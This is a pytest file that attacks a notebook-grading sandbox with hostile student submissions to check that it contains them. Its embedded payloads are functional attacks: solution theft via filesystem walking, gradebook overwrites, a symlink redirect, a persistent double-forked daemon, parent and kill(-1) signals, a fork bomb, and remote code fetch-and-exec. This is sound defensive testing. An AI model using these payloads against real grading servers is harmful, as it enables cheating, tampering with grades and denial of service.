"""The grading sandbox, attacked: hostile submissions of every kind issue 14 names,
graded together with honest ones by the real ``grading autograde`` (and plain
``nbgrader autograde``), on one workspace for the whole file.

The class (tests/fixtures/sandbox: a one-notebook module1_listing) is graded
twice with the same honest submissions: alone, and then together with the
attackers, two workers in parallel.  Every attacker must score no more than a
blank submission, and the honest students' rows of the exported score sheet
must be identical in both runs.  The attacks are real: run without the sandbox
(``--unsafe-no-sandbox``) the reading and network attackers take full marks.

The attackers know the real absolute paths of everything they want (the test
writes them into their code), as a student who guessed the TA's layout would.
"""

from __future__ import annotations

import csv
import html
import io
import json
import os
import re
import shutil
import socketserver
import subprocess
import sys
import threading
import time
from pathlib import Path

import harness
import nbformat
import pytest

from grading import simulate
from grading.sandbox import UNSAFE_MARK
from grading.sandbox.bwrap import Bubblewrap
from grading.workspace import ensure_workspace

pytestmark = pytest.mark.slow
M = "module1_listing"
FIXTURE = Path(__file__).parent / "fixtures" / "sandbox" / M
ON_TIME = "2026-12-07 10:00:00+08:00"
HONEST = ["s_full", "s_part", "s_blank"]
ATTACKERS = ["a_read", "a_write", "a_daemon", "a_kill", "a_net", "a_fork", "a_print"]
MARKER = "sandbox-attack-daemon-7f3a"
PROBLEM = Bubblewrap().problem()
if PROBLEM:
    pytestmark = [
        pytest.mark.slow,
        pytest.mark.skip(reason=f"沙箱测试跳过：{PROBLEM}（安装 bubblewrap 并允许命名空间后再运行）"),
    ]

# -- the attacks (answer-cell code; _K holds the paths the test gives them) ----------

STEAL = r'''
import json, os
def _steal(gid):
    """Read the instructor's notebook (or any notebook with solutions) and run its solution."""
    found, readable = [], []
    for p in _K["paths"]:
        try:
            with open(p, "rb") as f:
                f.read(16)
            readable.append(p)
        except Exception:
            pass
    seen, here = 0, os.getcwd()
    for root, dirs, files in os.walk("/"):
        seen += 1
        if seen > 3000 or root.startswith(("/proc", "/sys", "/dev", "/usr", here)):  # not its own notebook
            dirs[:] = []
            continue
        for n in files:
            if n.endswith(".ipynb"):
                try:
                    text = open(os.path.join(root, n), encoding="utf-8").read()
                except Exception:
                    continue
                if "BEGIN SOLUTION" in text:
                    found.append(os.path.join(root, n))
    for p in [_K["source"]] + found:
        try:
            nb = json.load(open(p, encoding="utf-8"))
        except Exception:
            continue
        for c in nb["cells"]:
            if c.get("metadata", {}).get("nbgrader", {}).get("grade_id") == gid:
                exec("".join(c["source"]).replace("### BEGIN SOLUTION", "").replace("### END SOLUTION", ""), globals())
                break
        break
    json.dump({"readable": readable, "solutions": found}, open("loot.json", "w"))
'''

WRITE = r"""
import json, glob, os, sqlite3
loot = {"gradebook": False, "results": 0, "other": False, "source": False}
try:
    con = sqlite3.connect("file:" + _K["gradebook"] + "?mode=rw", uri=True)
    con.execute("UPDATE grade SET manual_score = 100")
    con.commit()
    loot["gradebook"] = True
except Exception:
    pass
for p in glob.glob(_K["results"] + "/*.json"):
    try:
        open(p, "w").write('{"hacked": true}')
        loot["results"] += 1
    except Exception:
        pass
for key, name in (("other", _K["other"]), ("source", _K["source"])):
    try:
        open(name, "a").write(" ")
        loot[key] = True
    except Exception:
        pass
json.dump(loot, open("loot.json", "w"))
# the grader writes the graded notebook here afterwards: lead that write onto the gradebook
try:
    os.remove("01_shop.ipynb")
    os.symlink(_K["gradebook"], "01_shop.ipynb")
except Exception:
    pass
"""

DAEMON = r'''
import subprocess, sys, os
_code = """
import os, sys, time, glob, sqlite3
heart, gradebook, results = sys.argv[1], sys.argv[2], sys.argv[3]
if os.fork():
    os._exit(0)
os.setsid()
if os.fork():
    os._exit(0)
end = time.time() + 90
while time.time() < end:
    try:
        open(heart, "a").write("x")
    except Exception:
        pass
    try:
        con = sqlite3.connect("file:" + gradebook + "?mode=rw", uri=True, timeout=0.2)
        con.execute("UPDATE grade SET manual_score = 100")
        con.commit()
        con.close()
    except Exception:
        pass
    for p in glob.glob(results + "/*.json"):
        try:
            open(p, "w").write('{"hacked": true}')
        except Exception:
            pass
    time.sleep(0.2)
"""
subprocess.Popen([sys.executable, "-c", _code, os.path.abspath("heartbeat.txt"), _K["gradebook"], _K["results"],
                  _K["marker"]], start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
'''

KILL_PARENT = r"""
import json, os, signal
loot = {"parent": os.getppid(), "killed": False}
try:
    os.kill(os.getppid(), signal.SIGKILL)
    loot["killed"] = True
except Exception as e:
    loot["error"] = type(e).__name__
json.dump(loot, open("loot.json", "w"))
"""

# Only inside a PID namespace (the kernel's pid is small there): run as root outside one,
# kill(-1) would end every process of the test machine.  Should the sandbox ever be
# missing, the attacker does nothing and the test fails on the missing kernel death.
KILL_ALL = r"""
import os, signal
if os.getpid() < 1000:
    os.kill(-1, signal.SIGKILL)
"""

NET = r"""
import json, socket
def _fetch(gid):
    for host in ("127.0.0.1", _K["host_ip"]):
        try:
            s = socket.create_connection((host, _K["port"]), timeout=3)
            s.sendall(gid.encode() + b"\n")
            exec(json.loads(s.makefile(encoding="utf-8").readline()), globals())
            s.close()
            return
        except Exception as e:
            print("net:", type(e).__name__)
"""

FORK = r"""
import os, time
for _ in range(5000 if os.getpid() < 1000 else 0):  # never outside a PID namespace (see KILL_ALL)
    try:
        if os.fork() == 0:
            while True:
                pass
    except OSError:
        break
time.sleep(20)
"""

PRINT_FILE = 'print(open("01_shop.ipynb", encoding="utf-8").read())'
PRINT_HISTORY = 'print(_ih)\nprint(In)\nget_ipython().run_line_magic("history", "")'
PRINT_VARS = 'print(globals().get("_expected"))\nprint({k: v for k, v in globals().items() if k.startswith("_") and not k.startswith("__")})'


def attacks(k: dict) -> dict[str, dict[str, str]]:
    """student -> {answer grade_id: code}."""
    pre = f"_K = {json.dumps(k)!s}\n"
    return {
        "a_read": {
            "d1_shop_answer": pre + STEAL + "_steal('d1_shop_answer')\nshop = globals().get('shop')",
            "d2_top_answer": "_steal('d2_top_answer')\ntop3 = globals().get('top3')",
            "d3_plan_answer": "_steal('d3_plan_answer')\nplan = globals().get('plan')",
        },
        "a_write": {"d1_shop_answer": pre + WRITE + "shop = None"},
        "a_daemon": {"d1_shop_answer": pre + DAEMON + "shop = None\nimport time\ntime.sleep(2)"},
        "a_kill": {"d1_shop_answer": KILL_PARENT + "shop = None", "d3_plan_answer": KILL_ALL + "plan = None"},
        "a_net": {
            "d1_shop_answer": pre + NET + "_fetch('d1_shop_answer')\nshop = globals().get('shop')",
            "d2_top_answer": "_fetch('d2_top_answer')\ntop3 = globals().get('top3')",
            "d3_plan_answer": "_fetch('d3_plan_answer')\nplan = globals().get('plan')",
        },
        "a_fork": {"d1_shop_answer": FORK + "shop = None"},
        "a_print": {
            "d1_shop_answer": PRINT_FILE + "\nshop = None",
            "d2_top_answer": PRINT_HISTORY + "\ntop3 = None",
            "d3_plan_answer": PRINT_VARS + "\nplan = None",
        },
    }


class AnswerServer(socketserver.ThreadingTCPServer):
    """A server on the grading machine that hands out the solutions (counts who asks)."""

    allow_reuse_address = True
    daemon_threads = True

    def __init__(self, solutions: dict[str, str]):
        self.solutions, self.connections = solutions, []
        super().__init__(("0.0.0.0", 0), Handler)


class Handler(socketserver.StreamRequestHandler):
    def handle(self):
        gid = self.rfile.readline().decode().strip()
        self.server.connections.append(gid)
        self.wfile.write((json.dumps(self.server.solutions.get(gid, "")) + "\n").encode())


# -- running the class -----------------------------------------------------------------


def grading(ws, *args, check=True, env=None, timeout=900):
    proc = subprocess.run(
        [sys.executable, "-m", "grading", *args, "--workspace", str(ws)],
        env=harness.env(**(env or {})),
        capture_output=True,
        text=True,
        timeout=timeout,
        cwd=str(harness.REPO),
    )
    if check and proc.returncode != 0:
        raise AssertionError(
            f"grading {' '.join(args)} -> {proc.returncode}\n{proc.stdout[-3000:]}\n{proc.stderr[-3000:]}"
        )
    return proc


def sheet(ws, out: Path) -> dict[str, dict]:
    grading(ws, "export", "--out", str(out))
    return {r["学号"]: r for r in csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig")))}


def auto_total(row: dict) -> float:
    return sum(v for k, v in row.items() if k.startswith(("d1_", "d2_", "d3_")))


def marker_processes() -> list[int]:
    out = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            if MARKER.encode() in Path(f"/proc/{pid}/cmdline").read_bytes():
                out.append(int(pid))
        except OSError:
            pass
    return out


def host_ip() -> str:
    """An address of this machine other than loopback (the sandbox must not reach it either)."""
    import socket

    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    try:
        s.connect(("10.255.255.255", 1))
        return s.getsockname()[0]
    except OSError:
        return "127.0.0.1"
    finally:
        s.close()


def feedback_text(path: Path) -> str:
    """What a reader of an HTML page sees (tags dropped, entities decoded)."""
    return html.unescape(re.sub(r"<[^>]+>", "", path.read_text(encoding="utf-8")))


def hidden_lines() -> list[str]:
    """The hidden-test lines of the fixture that a student never sees (normalised)."""
    from grading.preprocessors.hide_tests import normalise

    nb = harness.notebooks(FIXTURE)["01_shop.ipynb"]
    lines = []
    for c in nb.cells:
        src = c.source
        if "### BEGIN HIDDEN TESTS" in src:
            body = src.split("### BEGIN HIDDEN TESTS", 1)[1].split("### END HIDDEN TESTS", 1)[0]
            lines += [normalise(line) for line in body.splitlines() if len(normalise(line)) >= 12]
    return lines


@pytest.fixture(scope="module")
def run(tmp_path_factory):
    base = tmp_path_factory.mktemp("attacks")
    ws = ensure_workspace(base / "classroom", modules=())
    shutil.copytree(FIXTURE, ws / "source" / M)
    everyone = HONEST + ATTACKERS
    (base / "名单.csv").write_text(
        "学号,姓名\n" + "".join(f"{s},学生{i}\n" for i, s in enumerate(everyone)), encoding="utf-8-sig"
    )
    grading(ws, "init", "--roster", str(base / "名单.csv"))
    grading(ws, "release", M, "--no-zip")
    released = harness.notebooks(ws / "release" / M)
    sols = simulate.solutions(harness.notebooks(FIXTURE)["01_shop.ipynb"])
    harness.submit(ws, M, "s_full", {n: simulate.fill(nb, sols) for n, nb in released.items()}, timestamp=ON_TIME)
    harness.submit(
        ws,
        M,
        "s_part",
        {n: simulate.fill(nb, sols, lambda i, gid: gid == "d1_shop_answer") for n, nb in released.items()},
        timestamp=ON_TIME,
    )
    harness.submit(ws, M, "s_blank", released, timestamp=ON_TIME)
    out = {"ws": ws, "base": base}

    # 1. the honest class alone
    grading(ws, "autograde", M, "--jobs", "2", "--timeout", "30", "--quiet")
    out["sheet_alone"] = sheet(ws, base / "alone.csv")

    # 2. the same class with the attackers, two workers in parallel
    server = AnswerServer(sols)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    k = {
        "paths": [
            str(ws / "source" / M / "01_shop.ipynb"),
            str(ws / "submitted" / "s_full" / M / "01_shop.ipynb"),
            str(ws / "gradebook.db"),
            str(harness.REPO / "grading" / "reference" / "__init__.py"),
            str(harness.REPO / "module1_listing"),
            str(Path.home()),
            str(ws / "roster.csv"),
        ],
        "source": str(ws / "source" / M / "01_shop.ipynb"),
        "gradebook": str(ws / "gradebook.db"),
        "results": str(ws / ".grading" / "results" / M),
        "other": str(ws / "submitted" / "s_full" / M / "01_shop.ipynb"),
        "port": server.server_address[1],
        "host_ip": host_ip(),
        "marker": MARKER,
    }
    out["k"] = k
    for student, cells in attacks(k).items():
        nbs = {n: json.loads(json.dumps(nb)) for n, nb in released.items()}
        nb = nbformat.from_dict(nbs["01_shop.ipynb"])
        for gid, code in cells.items():
            harness.set_source(nb, gid, code)
        harness.submit(
            ws, M, student, {"01_shop.ipynb": nb}, timestamp=ON_TIME, files={"submission_secret.txt": b"3f9a0c1e5b7d"}
        )  # as the exchange gives it
    hashes = {s: harness_hashes(ws, s) for s in HONEST}
    t0 = time.time()
    proc = grading(ws, "autograde", M, "--jobs", "2", "--timeout", "30", "--quiet")
    out["seconds"] = time.time() - t0
    out["stdout"] = proc.stdout
    out["connections_sandboxed"] = list(server.connections)
    out["sheet_with"] = sheet(ws, base / "with.csv")
    out["scores"] = harness.scores(ws, M)
    out["results"] = {s: ws_result(ws, s) for s in everyone}
    out["summary"] = json.loads((ws / "reports" / f"autograde-{M}.json").read_text(encoding="utf-8"))
    out["hashes_same"] = hashes == {s: harness_hashes(ws, s) for s in HONEST}
    heart = ws / "autograded" / "a_daemon" / M / "heartbeat.txt"
    out["heart_exists"] = heart.exists()
    size1 = heart.stat().st_size if heart.exists() else -1
    out["daemons_after"] = marker_processes()
    time.sleep(1.5)
    out["heart_grew"] = (heart.stat().st_size if heart.exists() else -1) != size1
    out["sheet_later"] = sheet(ws, base / "later.csv")
    out["loot"] = {
        s: json.loads(p.read_text())
        for s in ("a_read", "a_write", "a_kill")
        if (p := ws / "autograded" / s / M / "loot.json").exists()
    }
    out["a_print_raw"] = (ws / "autograded" / "a_print" / M / "01_shop.ipynb").read_text(encoding="utf-8")

    # 3. feedback from every path nbgrader offers
    out["feedback"] = feedback_pages(ws, base)

    # 4. plain nbgrader autograde (the formgrader's button): the same sandbox
    server.connections.clear()
    harness.nbgrader(ws, "autograde", M, "--force", "--student", "a_[rn]e[at]*")  # a_read and a_net
    out["plain_scores"] = harness.scores(ws, M)
    out["plain_results"] = {s: ws_result(ws, s) for s in ("a_read", "a_net")}
    out["plain_connections"] = list(server.connections)
    p = ws / "autograded" / "a_read" / M / "loot.json"
    out["plain_loot"] = json.loads(p.read_text()) if p.exists() else None

    # 5. no bubblewrap: every path refuses; the explicit flag grades, unsafely and marked
    missing = {"GRADING_BWRAP": str(base / "no-such-bwrap")}
    out["refused_cli"] = grading(ws, "autograde", M, "--quiet", check=False, env=missing)
    out["refused_plain"] = subprocess.run(
        [str(harness.BIN / "nbgrader"), "autograde", M, "--force", "--student", "s_blank"],
        cwd=ws,
        env=harness.env(**missing),
        capture_output=True,
        text=True,
        timeout=600,
    )
    server.connections.clear()
    out["unsafe"] = grading(
        ws,
        "autograde",
        M,
        "--unsafe-no-sandbox",
        "--student",
        "a_read",
        "--student",
        "a_net",
        "--timeout",
        "30",
        "--quiet",
        env=missing,
    )
    out["unsafe_scores"] = harness.scores(ws, M)
    out["unsafe_connections"] = list(server.connections)
    out["unsafe_sheet"] = sheet(ws, base / "unsafe.csv")
    server.shutdown()
    yield out
    for pid in marker_processes():  # never leave one behind, whatever happened
        os.kill(pid, 9)


def harness_hashes(ws, student):
    from grading.gradebook import tree_hashes

    return tree_hashes(ws / "submitted" / student / M)


def ws_result(ws, student):
    p = ws / ".grading" / "results" / M / f"{student}.json"
    return json.loads(p.read_text(encoding="utf-8")) if p.exists() else {}


def feedback_pages(ws, base) -> dict[str, dict[str, str]]:
    """path name -> {file: text} of a_print's (and s_full's) feedback, each path on its own."""
    pages = {}
    fb = ws / "feedback" / "a_print" / M

    def take(name):
        pages[name] = {p.name: feedback_text(p) for p in sorted(fb.glob("*.html"))}
        shutil.rmtree(ws / "feedback" / "a_print", ignore_errors=True)

    grading(ws, "feedback", M, "--student", "a_print", "--student", "s_full")
    pages["s_full"] = {p.name: feedback_text(p) for p in sorted((ws / "feedback" / "s_full" / M).glob("*.html"))}
    take("grading feedback")
    harness.nbgrader(ws, "generate_feedback", M, "--force", "--student", "a_print")
    take("nbgrader generate_feedback")
    from grading.gradebook import Workspace
    from grading.release import api

    res = api(Workspace(ws)).generate_feedback(M, "a_print", force=True)  # what the formgrader's button calls
    assert res.get("success"), res
    pages["formgrader"] = {p.name: feedback_text(p) for p in sorted(fb.glob("*.html"))}
    harness.nbgrader(ws, "release_feedback", M, "--student", "a_print")
    pages["release_feedback"] = {
        str(p.relative_to(ws / "exchange")): feedback_text(p)
        for p in sorted((ws / "exchange").rglob("feedback/*.html"))
    }
    return pages


# -- what each attack gets ----------------------------------------------------------------


def test_every_attacker_scores_no_more_than_a_blank_submission(run):
    sc = run["scores"]
    blank = auto_total(sc["s_blank"])
    assert blank == 0 and auto_total(sc["s_full"]) == 30 and 0 < auto_total(sc["s_part"]) < 30
    for a in ATTACKERS:
        assert auto_total(sc[a]) <= blank, (a, sc[a], run["results"][a].get("reasons"))


def test_the_rest_of_the_class_gets_the_same_sheet_with_or_without_attackers(run):
    for s in HONEST:
        assert run["sheet_with"][s] == run["sheet_alone"][s], s
        assert run["sheet_later"][s] == run["sheet_alone"][s], s  # nothing wrote after the run either
    assert run["hashes_same"]


def test_student_code_sees_only_its_own_folder(run):
    loot = run["loot"]["a_read"]
    assert loot == {"readable": [], "solutions": []}, loot  # no instructor notebook, submission, gradebook, home


def test_gradebook_results_and_other_files_are_out_of_reach(run):
    assert run["loot"]["a_write"] == {"gradebook": False, "results": 0, "other": False, "source": False}
    assert run["summary"]["manual_grades_changed"] == [] and run["summary"]["source_modified"] is False
    for s, res in run["results"].items():
        assert res.get("student") == s and "hacked" not in res, s
    removed = " ".join(run["results"]["a_write"]["reasons"])
    assert "链接" in removed  # the symlink it left for the grader to write through was removed first


def test_nothing_outlives_its_notebook(run):
    assert run["heart_exists"], "the daemon never started: the attack did not run"
    assert run["daemons_after"] == [] and not run["heart_grew"]


def test_killing_the_parent_reaches_only_the_sandbox(run):
    """Its parent is the sandbox's own first process, not the grading worker; kill(-1)
    reaches nothing outside either: the worker lives on and grades it normally."""
    res = run["results"]["a_kill"]
    assert res["status"] == "ok" and not res["reasons"], res  # a dead worker reports 评分失败
    assert run["loot"]["a_kill"]["parent"] == 1, run["loot"]["a_kill"]


def test_no_network_inside_the_sandbox(run):
    assert run["connections_sandboxed"] == [] and run["plain_connections"] == []


def test_fork_storm_is_stopped_at_once(run):
    res = run["results"]["a_fork"]
    assert any("评分沙箱已被终止" in r for r in res["reasons"]), res["reasons"]  # too many processes or CPU cores
    assert res["seconds"] < 60, res["seconds"]


def test_feedback_of_every_path_holds_no_hidden_tests(run):
    raw = run["a_print_raw"]
    assert "BEGIN HIDDEN TESTS" in raw and "收纳盒', '地毯', '床头柜'" in raw  # the attack did print them
    needles = hidden_lines()
    from grading.preprocessors.hide_tests import REMOVED, normalise

    assert set(run["feedback"]) == {
        "s_full",
        "grading feedback",
        "nbgrader generate_feedback",
        "formgrader",
        "release_feedback",
    }
    for path, pages in run["feedback"].items():
        assert pages, path
        for name, text in pages.items():
            flat = normalise(text)
            assert "HIDDEN TESTS" not in text and "_c.check" not in text, (path, name)
            assert not [n for n in needles if n in flat], (path, name)
            assert "北欧家居旗舰店" not in text and "收纳盒', '地毯', '床头柜'" not in text, (path, name)
            if path != "s_full" and name == "01_shop.html":
                assert REMOVED in text, (path, name)


def test_plain_nbgrader_autograde_runs_in_the_same_sandbox(run):
    sc = run["plain_scores"]
    for a in ("a_read", "a_net"):
        assert auto_total(sc[a]) <= auto_total(sc["s_blank"]), (a, sc[a])
        assert run["plain_results"][a]["sandbox"] == "bwrap" and "post_convert_hook" in run["plain_results"][a]["via"]
    assert run["plain_loot"] == {"readable": [], "solutions": []}


def test_every_path_refuses_without_a_sandbox(run):
    for proc in (run["refused_cli"], run["refused_plain"]):
        assert proc.returncode != 0
        assert "拒绝评分" in proc.stderr and "apt-get install bubblewrap" in proc.stderr, proc.stderr[-2000:]
        assert "班级服务器" in proc.stderr and "--unsafe-no-sandbox" in proc.stderr


def test_without_the_sandbox_the_attacks_work_and_the_run_is_marked(run):
    sc = run["unsafe_scores"]
    assert auto_total(sc["a_read"]) == 30 and auto_total(sc["a_net"]) == 30, sc  # the attacks are real
    assert run["unsafe_connections"]
    assert UNSAFE_MARK in run["unsafe"].stdout
    for s in ("a_read", "a_net"):
        assert f"【{UNSAFE_MARK}】" in run["unsafe_sheet"][s]["评语"], run["unsafe_sheet"][s]
    assert UNSAFE_MARK not in run["unsafe_sheet"]["s_full"]["评语"]  # graded in the sandbox before
